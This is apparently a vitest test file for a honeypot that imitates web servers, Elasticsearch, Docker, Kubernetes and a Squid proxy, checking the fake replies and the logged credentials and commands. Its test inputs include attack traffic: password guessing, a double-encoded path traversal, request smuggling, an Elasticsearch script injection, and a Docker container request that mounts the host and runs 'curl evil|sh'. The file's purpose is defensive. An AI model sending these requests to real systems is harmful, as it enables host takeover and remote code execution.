/** Web servers and what speaks HTTP: [what they send, what we answer, what we saw]. */
import { describe, expect, test } from 'vitest';
import { createDockerTrap } from '#enforcer/traps/protocols/docker.ts';
import { createElasticsearchTrap } from '#enforcer/traps/protocols/elasticsearch.ts';
import { createHttpTrap } from '#enforcer/traps/protocols/http.ts';
import { createHttpProxyTrap } from '#enforcer/traps/protocols/http-proxy.ts';
import { createKubeletTrap, createKubernetesTrap } from '#enforcer/traps/protocols/kubernetes.ts';
import { contextOf, personaWith, table, talk } from '#test/support/trap-talk.ts';

const apache = personaWith(persona => persona.software.http === 'apache' && persona.release.family === 'debian');
const nginx = personaWith(persona => persona.software.http === 'nginx' && persona.release.family === 'ubuntu');
const get = (path: string, more = ''): string => `GET ${path} HTTP/1.1\r\nHost: 192.0.2.10\r\n${more}\r\n`;
const post = (path: string, body: string, more = 'Content-Type: application/x-www-form-urlencoded\r\n'): string =>
  `POST ${path} HTTP/1.1\r\nHost: 192.0.2.10\r\n${more}Content-Length: ${body.length}\r\n\r\n${body}`;

table('apache', createHttpTrap, 80, apache, [
  {
    name: 'a page that is not there, as Apache says it',
    sent: [get('/nothing')],
    answered:
      /^HTTP\/1\.1 404 Not Found\r\nDate: Wed, 04 Mar 2026 05:06:07 GMT\r\nServer: Apache\/2\.4\.\d+ \(Debian\)\r\nContent-Length: \d+\r\nContent-Type: text\/html; charset=iso-8859-1\r\n\r\n<!DOCTYPE HTML PUBLIC[\s\S]*<address>Apache\/2\.4\.\d+ \(Debian\) Server at 192\.0\.2\.10 Port 80<\/address>/,
    saw: [{ kind: 'request', method: 'GET', target: '/nothing' }],
  },
  {
    name: 'a guess at WordPress',
    sent: [post('/wp-login.php', 'log=admin&pwd=p%40ss+word&wp-submit=Log+In')],
    answered: /200 OK[\s\S]*The password you entered is incorrect/,
    saw: [{ kind: 'request' }, { kind: 'credentials', user: 'admin', secret: 'p@ss word' }, { kind: 'payload', name: 'body' }],
  },
  {
    name: 'a guess at xmlrpc.php',
    sent: [
      post(
        '/xmlrpc.php',
        '<?xml version="1.0"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>admin</value></param><param><value>qwerty</value></param></params></methodCall>',
        '',
      ),
    ],
    answered: /Incorrect username or password/,
    saw: [{ kind: 'request' }, { kind: 'credentials', user: 'admin', secret: 'qwerty' }, { kind: 'payload' }],
  },
  {
    name: 'a log-in as JSON',
    sent: [post('/login', '{"username":"root","password":"toor"}', 'Content-Type: application/json\r\n')],
    answered: /Wrong user name or password/,
    saw: [{}, { kind: 'credentials', user: 'root', secret: 'toor' }, {}],
  },
  {
    name: 'a guess at the Tomcat manager by Basic',
    sent: [get('/manager/html', `Authorization: Basic ${Buffer.from('tomcat:s3cret').toString('base64')}\r\n`)],
    answered: /^HTTP\/1\.1 401 Unauthorized\r\n[\s\S]*WWW-Authenticate: Basic realm="Tomcat Manager Application"/,
    saw: [{}, { kind: 'credentials', user: 'tomcat', secret: 's3cret' }],
  },
  {
    name: 'curl waits for 100 Continue',
    sent: ['POST /login HTTP/1.1\r\nHost: h\r\nExpect: 100-continue\r\nContent-Length: 7\r\n\r\n', 'user=ab'],
    answered: /^HTTP\/1\.1 100 Continue\r\n\r\nHTTP\/1\.1 200 OK\r\n/,
    saw: [{}, { kind: 'payload', content: 'user=ab' }],
  },
  {
    name: 'a chunked body, cut where it hurts',
    sent: ['POST /login HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n5;x=y\r', '\nuser=\r\n1', '1\r\na&password=secret\r\n0\r\nT: t\r\n\r\n'],
    answered: /^HTTP\/1\.1 200 OK\r\n/,
    saw: [{}, { kind: 'credentials', user: 'a', secret: 'secret' }, { kind: 'payload', content: 'user=a&password=secret' }],
  },
  {
    name: 'pipelined requests are answered in order, the last one ends it',
    sent: [`${get('/robots.txt')}${get('/.env')}${get('/.git/HEAD', 'Connection: close\r\n')}`],
    answered: /^HTTP\/1\.1 200 OK[\s\S]*Disallow: \/admin\/[\s\S]*DB_PASSWORD=[0-9a-f]{20}[\s\S]*Connection: close\r\n[\s\S]*ref: refs\/heads\/main\n$/,
    saw: [{ target: '/robots.txt' }, { target: '/.env' }, { target: '/.git/HEAD' }] as never,
    closed: true,
  },
  {
    name: 'a path that climbs, encoded twice over',
    sent: [get('/cgi-bin/.%2e/.%2e/.%2e/bin/sh')],
    answered: /^HTTP\/1\.1 400 Bad Request/,
    saw: [{ target: '/cgi-bin/.%2e/.%2e/.%2e/bin/sh' }] as never,
  },
  {
    name: 'HEAD has no body',
    sent: ['HEAD / HTTP/1.1\r\nHost: h\r\n\r\n'],
    answered: /^HTTP\/1\.1 200 OK\r\n[\s\S]*Content-Length: [1-9]\d*\r\n[\s\S]*\r\n\r\n$/,
    saw: [{ kind: 'request' }],
  },
  { name: 'a request of HTTP/0.9 gets the page alone', sent: ['GET /\r\n'], answered: /^<!DOCTYPE html>/, saw: [{ kind: 'request' }], closed: true },
  {
    name: 'both kinds of length: request smuggling',
    sent: ['POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n'],
    answered: /^HTTP\/1\.1 400 /,
    saw: [{ kind: 'malformed' }],
    closed: true,
  },
  { name: 'no Host', sent: ['GET / HTTP/1.1\r\n\r\n'], answered: /^HTTP\/1\.1 400 /, saw: [{ kind: 'request' }], closed: true },
  { name: 'TLS on a clear port', sent: ['\x16\x03\x01\x02\x00\x01'], answered: /^HTTP\/1\.1 400 Bad Request\r\n/, saw: [{ kind: 'malformed' }], closed: true },
  {
    name: 'a body larger than the session may have',
    sent: ['POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 999999999\r\n\r\n', 'x'.repeat(70_000)],
    answered: /^$/,
    saw: [{ kind: 'too-much' }],
    closed: true,
  },
]);

table('nginx', createHttpTrap, 80, nginx, [
  {
    name: 'a page that is not there, as nginx says it',
    sent: [get('/nothing')],
    answered:
      /^HTTP\/1\.1 404 Not Found\r\nServer: nginx\/1\.\d+\.\d+ \(Ubuntu\)\r\nDate: [^\r]+\r\nContent-Type: text\/html\r\nContent-Length: \d+\r\nConnection: keep-alive\r\n\r\n<html>\r\n<head><title>404 Not Found/,
    saw: [{}],
  },
]);

table('tomcat', createHttpTrap, 8080, nginx, [
  {
    name: "nmap's GET of its welcome page",
    sent: ['GET / HTTP/1.0\r\n\r\n'],
    answered: /^HTTP\/1\.1 200 \r\nContent-Type: text\/html;charset=UTF-8\r\nDate: [^\r]+\r\nConnection: close\r\n\r\n\n\n\n<!DOCTYPE html>/,
    saw: [{}],
    closed: true,
  },
  { name: 'the manager', sent: [get('/manager/html')], answered: /^HTTP\/1\.1 401 \r\n[\s\S]*Tomcat Manager Application/, saw: [{}] },
]);

table('elasticsearch', createElasticsearchTrap, 9200, apache, [
  {
    name: "nmap's GET",
    sent: ['GET / HTTP/1.0\r\n\r\n'],
    answered: /^HTTP\/1\.0 200 OK\r\ncontent-type: application\/json; charset=UTF-8\r\ncontent-length: \d+\r\n\r\n\{\n {2}"name" : "/,
    saw: [{}],
    closed: true,
  },
  {
    name: 'a script of a cryptominer (CVE-2015-1427)',
    sent: [post('/_search?pretty', '{"script_fields":{"x":{"script":"java.lang.Runtime"}}}', 'Content-Type: application/json\r\n')],
    answered: /^HTTP\/1\.1 400 Bad Request[\s\S]*cannot execute \[inline\] scripts/,
    saw: [{}, { kind: 'payload', content: '{"script_fields":{"x":{"script":"java.lang.Runtime"}}}' }],
  },
  { name: 'an index that is not there', sent: [get('/wallets/_search')], answered: /^HTTP\/1\.1 404 Not Found[\s\S]*no such index \[wallets\]/, saw: [{}] },
]);

table('docker', createDockerTrap, 2375, apache, [
  {
    name: "nmap's OPTIONS",
    sent: ['OPTIONS / HTTP/1.0\r\n\r\n'],
    answered:
      /^HTTP\/1\.0 200 OK\r\nApi-Version: 1\.\d+\r\nDocker-Experimental: false\r\nOstype: linux\r\nServer: Docker\/[\w.+]+ \(linux\)\r\nDate: [^\r]+\r\nContent-Length: 0\r\n\r\n$/,
    saw: [{}],
    closed: true,
  },
  {
    name: 'a container with the host in it',
    sent: [
      post(
        '/v1.24/containers/create',
        '{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","curl evil|sh"],"HostConfig":{"Binds":["/:/mnt"]}}',
        'Content-Type: application/json\r\n',
      ),
    ],
    answered: /^HTTP\/1\.1 201 Created[\s\S]*\{"Id":"[0-9a-f]{64}","Warnings":\[\]\}\n$/,
    saw: [{}, { kind: 'payload' }, { kind: 'command', line: 'Image="alpine" Cmd=["chroot","/mnt","sh","-c","curl evil|sh"] Binds=["/:/mnt"]' }],
  },
]);

table('kubernetes', createKubernetesTrap, 8001, apache, [
  { name: 'the version is told', sent: [get('/version')], answered: /^HTTP\/1\.1 200 OK[\s\S]*"gitVersion": "v1\.\d+\.\d+"/, saw: [{}] },
  {
    name: 'secrets are not',
    sent: [get('/api/v1/namespaces/kube-system/secrets')],
    answered:
      /^HTTP\/1\.1 403 Forbidden[\s\S]*secrets is forbidden: User \\"system:anonymous\\" cannot list resource \\"secrets\\" in API group \\"\\" in the namespace \\"kube-system\\"/,
    saw: [{}],
  },
  {
    name: 'a token is logged',
    sent: [get('/api', 'Authorization: Bearer abc\r\n')],
    answered: /^HTTP\/1\.1 401 Unauthorized/,
    saw: [{}, { kind: 'credentials', user: '', secret: 'abc', scheme: 'bearer' }],
  },
]);

table('kubelet', createKubeletTrap, 10250, apache, [
  {
    name: 'by which nmap knows Go',
    sent: ['GET / HTTP/1.0\r\n\r\n'],
    answered:
      /^HTTP\/1\.0 404 Not Found\r\nContent-Type: text\/plain; charset=utf-8\r\nX-Content-Type-Options: nosniff\r\nDate: .*\r\nContent-Length: 19\r\n\r\n404 page not found\n$/,
    saw: [{}],
    closed: true,
  },
  { name: 'its pods are for those who may', sent: [get('/pods')], answered: /^HTTP\/1\.1 401 Unauthorized\r\n[\s\S]*\r\n\r\nUnauthorized$/, saw: [{}] },
]);

table('squid', createHttpProxyTrap, 3128, apache, [
  {
    name: 'a proxy judge',
    sent: ['GET http://example.com/judge.php HTTP/1.1\r\nHost: example.com\r\n\r\n'],
    answered:
      /^HTTP\/1\.1 407 Proxy Authentication Required\r\nServer: squid\/[\d.]+\r\n[\s\S]*Proxy-Authenticate: Basic realm="Squid proxy-caching web server"/,
    saw: [{ kind: 'request' }, { kind: 'command', line: 'GET http://example.com/judge.php' }],
  },
  {
    name: 'CONNECT with a password',
    sent: ['CONNECT mail.example.com:25 HTTP/1.1\r\nProxy-Authorization: Basic dTpw\r\n\r\n'],
    answered: /^HTTP\/1\.1 407 /,
    saw: [{}, { kind: 'credentials', user: 'u', secret: 'p' }, { kind: 'command', line: 'CONNECT mail.example.com:25' }],
  },
]);

describe('HTTP', () => {
  test('the Date goes on with the clock', () => {
    const machine = createHttpTrap(contextOf(80, { persona: apache }));
    machine.open(500);
    machine.receive(Buffer.from(get('/')), 600);
    const later = Buffer.from(machine.receive(Buffer.from(get('/')), 2_600).send ?? []).toString('latin1');
    expect(later).toContain('Date: Wed, 04 Mar 2026 05:06:09 GMT\r\n');
  });

  test('a name of JavaScript is no page, and no header is taken for one of ours', () => {
    const { answer } = talk(createHttpTrap, contextOf(80, { persona: apache }), [get('/constructor'), get('/__proto__', 'Host: <script>\r\n')]);
    expect(answer.match(/HTTP\/1\.1 404/g)).toHaveLength(2);
    expect(answer).not.toContain('<script>');
  });
});
